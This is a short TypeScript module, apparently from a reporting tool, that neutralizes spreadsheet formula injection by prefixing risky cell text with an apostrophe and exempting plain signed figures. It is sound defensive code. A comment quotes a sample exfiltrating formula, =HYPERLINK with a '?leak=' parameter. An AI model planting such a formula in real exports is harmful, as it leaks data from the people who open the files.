// Text from a workbook on its way into a report: never a live formula where a spreadsheet program opens the
// report, never a character that reorders or hides what a reader sees, never an unbounded quote.
// Used by the CLI presenters (text, HTML, JSON) and by the report sheet and exports.

/** A figure as reports print it ("-Rp 1.000", "-12,5%", "-0.25"): starts with "-" but is no formula. */
const PLAIN_FIGURE = /^[-+]\s*(?:rp\.?\s*)?[\d.,\s]*\d[\d.,]*\s*%?$/i;

/**
 * Text bound for a spreadsheet (HTML report, CSV, .xlsx export, report sheet): a leading = + - @ tab or carriage
 * return would make Excel or LibreOffice read it as a formula (=HYPERLINK("http://…?leak="&A2) sends data away).
 * Such text gets a leading apostrophe, which spreadsheets show as text. Plain signed figures stay as they are.
 */
export function neutralizeFormula(s: string): string {
  if (s === "" || !/^[=+\-@\t\r]/.test(s)) return s;
  if (PLAIN_FIGURE.test(s)) return s;
  return "'" + s;
}
